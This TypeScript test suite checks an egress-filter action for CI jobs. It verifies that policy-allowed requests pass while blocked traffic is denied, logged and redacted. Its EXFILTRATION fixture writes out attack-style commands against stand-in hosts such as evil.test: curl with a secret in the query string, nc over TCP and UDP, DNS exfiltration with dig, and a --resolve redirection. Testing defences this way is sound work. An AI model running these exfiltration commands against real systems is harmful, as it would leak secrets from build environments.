import { beforeAll, describe, expect, test } from 'vitest';
import { asked, type JobResult, reached, runJob, transcript, WORLD } from '../runner/runner.ts';

/** What a dependency with bad intentions tries first: by name, by address, raw, over UDP, in DNS. */
const EXFILTRATION = `set +e
curl -sS --max-time 60 'https://evil.test/steal?data=hunter2'
curl -sSk --max-time 60 https://${WORLD.evil}/steal
curl -sSk --max-time 60 --resolve ok.test:443:${WORLD.evil} https://ok.test/led-astray
echo data | timeout 3 nc -w1 ${WORLD.evil} 9999
echo data | timeout 3 nc -u -w1 ${WORLD.evil} 9999
dig +time=1 +tries=1 hunter2.evil.test @${WORLD.evil}
getent ahosts hunter3.evil.test
ping -c1 -W1 ${WORLD.evil}
curl -sS --max-time 60 'https://evil.test/again'
true`;

describe('a job in enforce mode', () => {
  let job: JobResult;
  beforeAll(async () => {
    job = await runJob({
      action: { with: { policy: 'ok.test\n' } },
      steps: [
        {
          name: 'allowed',
          run: 'curl -sS --max-time 60 https://ok.test/hello && env -u NODE_USE_SYSTEM_CA node -e \'fetch("https://ok.test/node").then((r) => r.text()).then(console.log)\'',
        },
        { name: 'exfiltration', run: EXFILTRATION },
        { name: 'outputs', run: 'echo "$SSL_CERT_FILE"; ls -ld /var/log/egress-filter /var/log/egress-filter/*' },
      ],
    });
  });

  test('succeeds, and says in pre how fast it was enforcing', () => {
    expect(job.conclusion, transcript(job)).toBe('success');
    expect(job.step(/^Pre /).log).toMatch(/1 rule enforced.* since .*, \d+ ms after this step began/);
  });

  test('what the policy names passes, inspected, with clients that trust the system and with Node', () => {
    expect(job.step('allowed').log).toMatch(/^hello from ok\.test\/hello by GET/);
    expect(job.step('allowed').log).toMatch(/hello from ok\.test\/node by GET/);
    expect(job.log).toContainEqual(
      expect.objectContaining({ type: 'https', policy: 'allow', url: 'https://ok.test/hello', method: 'GET' }),
    );
  });

  test('of everything else the world sees not one packet, and no name is asked for', () => {
    expect(reached(job, WORLD.evil)).toEqual([]);
    expect(asked(job).filter((name) => name.endsWith('evil.test'))).toEqual([]);
    expect(job.seen.filter(({ url }) => url?.includes('steal'))).toEqual([]);
    // A name is not an address: the request went to where the name leads.
    expect(job.seen.filter(({ url }) => url === '/led-astray').map(({ host }) => host)).toEqual(['ok.test']);
  });

  test('the log tells each attempt with its process and step', () => {
    const denied = job.log.filter(({ policy }) => policy === 'deny');
    for (const expected of [
      { name: 'evil.test', exe: '/usr/bin/curl' },
      { dst_ip: WORLD.evil, dst_port: 443, exe: '/usr/bin/curl' },
      { dst_ip: WORLD.evil, dst_port: 9999, type: 'udp' },
      { name: 'hunter2.evil.test', type: 'dns' },
      { name: 'hunter3.evil.test', type: 'dns' },
    ])
      expect(denied).toContainEqual(expect.objectContaining({ ...expected, step: expect.stringMatching(/(^|\.)__run_2$/) }));
  });

  test('the summary has the denials with the line to add, annotations point them out, the artifact holds the log', () => {
    expect(job.page).toContain('evil.test');
    expect(job.page).toContain('ok.test');
    expect(job.annotations.some(({ message }) => message.includes('evil.test'))).toBe(true);
    expect(job.annotations.filter(({ level }) => level === 'error')).toEqual([]);
    const [artifact] = job.artifacts;
    expect(artifact?.name).toBe('egress-connections');
    expect(Object.values(artifact?.files ?? {}).some((text) => text.includes('"hunter3.evil.test"'))).toBe(true);
  });

  test('secrets of a query string are in no evidence', () => {
    const evidence = [job.summary, JSON.stringify(job.log), JSON.stringify(job.artifacts), JSON.stringify(job.annotations)].join();
    expect(evidence).not.toContain('data=hunter2');
  });

  test('the log directory belongs to root', () => {
    for (const line of job
      .step('outputs')
      .log.split('\n')
      .filter((text) => text.startsWith('d')))
      expect(line).toMatch(/^drwxr-xr-x \d+ root root/);
    expect(job.step('outputs').log).toMatch(/\nd/);
  });

  test('the runner was heard all the time', () => {
    expect(Object.keys(job.beats).sort()).toEqual(['Runner.Listener', 'Runner.Worker', 'watchdog']);
  });
});

describe('modes', () => {
  const evil = { name: 'evil', run: 'curl -sS --max-time 60 https://evil.test/try || true; getent ahosts other.test || true' };

  test('audit: everything passes, and what the policy would deny is told', async () => {
    const job = await runJob({ action: { with: { policy: 'ok.test', audit: 'true' } }, steps: [evil] });
    expect(job.conclusion).toBe('success');
    expect(job.step('evil').log).toMatch(/^hello from evil\.test/);
    expect(job.log).toContainEqual(expect.objectContaining({ policy: 'deny', audit: true, url: 'https://evil.test/try' }));
    expect(job.page).toContain('evil.test');
    expect(job.artifacts.map(({ name }) => name)).toEqual(['egress-connections']);
  });

  test('on-deny: fail-job fails the job in post, with the denials as errors', async () => {
    const job = await runJob({
      action: { with: { policy: 'ok.test', 'on-deny': 'fail-job' } },
      steps: [evil, { name: 'later', run: 'true' }],
    });
    expect(job.conclusion).toBe('failure');
    expect(job.step('later').conclusion).toBe('success');
    expect(job.step(/^Post owner\/egress-filter/).conclusion).toBe('failure');
    expect(job.annotations.some(({ level, message }) => level === 'error' && message.includes('evil.test'))).toBe(true);
    expect(reached(job, WORLD.evil)).toEqual([]);
  });

  test('no denial: nothing to fail for, no artifact unless asked for', async () => {
    const steps = [{ name: 'fine', run: 'curl -sS --max-time 60 https://ok.test/' }];
    const quiet = await runJob({ action: { with: { policy: 'ok.test', 'on-deny': 'fail-job' } }, steps });
    expect(quiet.conclusion, transcript(quiet)).toBe('success');
    expect(quiet.artifacts).toEqual([]);
    const asked = await runJob({ action: { with: { policy: 'ok.test', 'upload-log': 'true' } }, steps });
    expect(asked.artifacts.map(({ name }) => name)).toEqual(['egress-connections']);
  });

  test('default: allow lets everything pass that no ! rule names', async () => {
    const job = await runJob({
      action: { with: { policy: '!evil.test', default: 'allow' } },
      steps: [{ name: 'other', run: 'curl -sS --max-time 60 https://other.test/' }, evil],
    });
    expect(job.step('other').log).toMatch(/^hello from other\.test/);
    expect(reached(job, WORLD.evil)).toEqual([]);
  });
});
